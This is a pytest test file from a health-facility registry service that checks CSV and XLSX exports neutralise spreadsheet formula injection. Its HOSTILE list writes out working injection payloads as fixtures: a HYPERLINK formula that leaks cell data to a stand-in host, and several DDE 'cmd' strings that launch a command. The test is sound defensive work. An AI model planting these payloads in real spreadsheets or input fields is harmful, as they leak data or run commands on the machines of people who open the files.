"""No file the service writes lets a typed value run as a spreadsheet formula.

Text starting with =, +, -, @, a tab or a carriage return is quoted in every CSV and XLSX
(outreach list, coverage tables and suggestions, statistics tables, survey templates); numbers
stay numbers. All writers go through registry.spreadsheets, which a source check enforces.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from registry.models import utcnow
from registry.paths import PROJECT_ROOT
from registry.spreadsheets import csv_bytes, safe_cell
from registry.survey import service as survey
from registry.survey.service import Surveyor
from tests.registry.conftest import sign_in
from tests.registry.coverage_layout import FAR, LAYER, build_layout, fresh_caches  # noqa: F401
from tests.registry.helpers import make_facility

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
RUNS = ("=", "+", "-", "@", "\t", "\r")


def _is_safe(value) -> bool:
    if not isinstance(value, str) or not value.startswith(RUNS):
        return True
    return bool(re.fullmatch(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?", value))


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(body: bytes) -> list:
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book for row in sheet.iter_rows(values_only=True) for cell in row]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_text_is_quoted_and_kept_readable(value):
    assert safe_cell(value) == "'" + value
    cells = _csv_cells(csv_bytes(["name"], [[value]]))
    assert cells == ["name", "'" + value]


@pytest.mark.parametrize("value", [0, -5, 2.5, -0.25, "-5", "+66", "1e5", "บ้านหนองบัว", None])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_every_writer_goes_through_the_one_place():
    offenders = []
    for path in (PROJECT_ROOT / "registry").rglob("*.py"):
        if path.name == "spreadsheets.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(
            r"csv\.(writer|DictWriter)\(|openpyxl import Workbook|\.to_csv\(|\.to_excel\(", source
        ):
            offenders.append(str(path.relative_to(PROJECT_ROOT)))
    assert offenders == []


def test_outreach_csv_quotes_a_village_name(client, session, accounts):
    survey.create_record(
        session,
        {
            "area_code": "TH500101",
            "village_no": 3,
            "village_name": HOSTILE[0],
            "survey_date": "2021-11-15",
            "residents_general": 50,
            "unvaccinated_general": 5,
            "residents_bedridden": 4,
            "unvaccinated_bedridden": 3,
        },
        Surveyor("official", "web", "official", "TH50"),
    )
    session.commit()
    sign_in(client, accounts["official"])
    cells = _csv_cells(client.get("/survey/outreach.csv").get_data())
    assert "'" + HOSTILE[0] in cells
    assert all(_is_safe(c) for c in cells)
    assert "3" in cells and "4" in cells  # counts are still plain numbers


@pytest.mark.usefixtures("fresh_caches")
def test_coverage_suggestions_csv_quotes_a_facility_name(client, session):
    build_layout(session)
    make_facility(session, type="hospital", name_th=HOSTILE[0], name_en=HOSTILE[3],
                  lon=FAR[0], lat=FAR[1] + 0.01, beds_total=30)  # fmt: skip
    session.commit()
    url = (
        f"/api/v1/coverage/suggestions?type=vaccination_site&threshold_km=10&layer={LAYER}"
        "&province=TH50&candidates=facilities:hospital&k=3&format=csv"
    )
    response = client.get(url)
    assert response.status_code == 200
    cells = _csv_cells(response.get_data())
    assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[3] in cells
    assert all(_is_safe(c) for c in cells)


def test_statistics_csv_and_xlsx_quote_facility_names(client, session, accounts):
    facility = make_facility(session, name_th=HOSTILE[1], name_en=HOSTILE[2])
    facility.status_confirmed_at = utcnow() - timedelta(days=10)  # stale: listed for admins
    session.commit()
    sign_in(client, accounts["national_admin"])
    csv_cells = _csv_cells(client.get("/stats/TH50/stale_facilities.csv").get_data())
    assert "'" + HOSTILE[1] in csv_cells and "'" + HOSTILE[2] in csv_cells
    xlsx_cells = _xlsx_cells(client.get("/stats/TH50/all.xlsx").get_data())
    assert "'" + HOSTILE[1] in xlsx_cells
    assert all(_is_safe(c) for c in csv_cells + xlsx_cells)
    assert any(isinstance(c, int) and not isinstance(c, bool) for c in xlsx_cells)
